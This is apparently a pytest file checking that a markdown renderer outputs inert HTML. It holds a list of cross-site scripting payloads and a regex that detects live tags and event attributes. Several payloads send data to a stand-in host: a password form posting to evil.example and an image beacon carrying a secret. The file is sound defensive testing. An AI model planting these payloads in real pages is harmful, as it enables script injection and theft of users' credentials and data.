"""Markdown of others becomes HTML that can do nothing (S12, S25)."""

import re

import pytest

from penstock.api.markdown import LONGEST, html_of, plain_html_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example'</style>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](https://evil.example/?d=secret)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    '[x](https://a.example "" onmouseover=alert(1) "")',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "`<script>`",
    "| <script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "<scr\0ipt>alert(1)</scr\0ipt>",
]
LIVE = re.compile(
    r"<(?:script|img|svg|math|iframe|form|input|style|base|meta|link|object|embed)\b|<[^>]*\s(?:on\w+|style|src|srcdoc)\s*=",
    re.IGNORECASE,
)
HREF = re.compile(r'href="([^"]*)"')


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "> {}", "- {}", "*a {} b*", "# {}"])
def test_nothing_that_was_written_runs_or_loads(payload: str, around: str) -> None:
    """S12, S25."""
    made = html_of(around.format(payload))
    assert not LIVE.search(made), made
    assert all(href.startswith(("http://", "https://", "mailto:")) for href in HREF.findall(made)), made


def test_markdown_is_shown_as_what_it_is() -> None:
    """B10."""
    made = html_of("# Dams\n\n1. *one*\n2. **two**\n\n| a | b |\n|---|---|\n| 1 | ~~2~~ |\n\n`x < y`\n")
    for piece in ("<h1>Dams</h1>", "<em>one</em>", "<strong>two</strong>", "<td>1</td>", "<s>2</s>", "x &lt; y"):
        assert piece in made


def test_a_link_leads_away_and_says_nothing_of_where_it_stood() -> None:
    """S25."""
    assert html_of("[a](https://example.org)") == (
        '<p><a href="https://example.org" rel="noopener noreferrer nofollow ugc">a</a></p>\n'
    )
    assert "<img" not in html_of("![a](https://example.org/a.png)")
    assert 'href="https://example.org/a.png"' in html_of("![a](https://example.org/a.png)")


def test_what_is_very_long_or_a_persons_is_shown_as_it_was_written() -> None:
    """B10."""
    assert html_of("*" * (LONGEST + 1)).startswith('<div class="plain">***')
    assert plain_html_of("a\n *b* <i>") == '<div class="plain">a\n *b* &lt;i&gt;</div>'
